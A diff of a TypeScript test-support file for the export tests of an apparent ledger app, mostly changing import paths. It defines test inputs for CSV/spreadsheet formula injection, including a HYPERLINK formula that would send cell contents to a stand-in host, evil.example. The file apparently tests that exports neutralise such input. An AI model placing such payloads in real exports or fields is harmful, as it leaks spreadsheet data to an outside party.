@@ -1,11 +1,11 @@
-// Test support for the exports tests (not loaded by the app): a round after its close, built
+// Test support for the exports tests: a round after its close, built
 // through the real allocation endpoint and the ledger's own functions.
 import { sql } from 'drizzle-orm';
 import { expect } from 'vitest';
 import { majorUnits } from '@cagnotte/shared';
-import type { TestContext } from '../../../test/harness.ts';
-import type { Member } from '../../../test/given.ts';
-import { grant, returnBucketAllocations } from '../ledger/index.ts';
+import type { TestContext } from './harness.ts';
+import type { Member } from './given.ts';
+import { grant, returnBucketAllocations } from '../src/features/ledger/index.ts';
 
 export const INJECTED_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
 export const INJECTED_NAME = '-Bob';
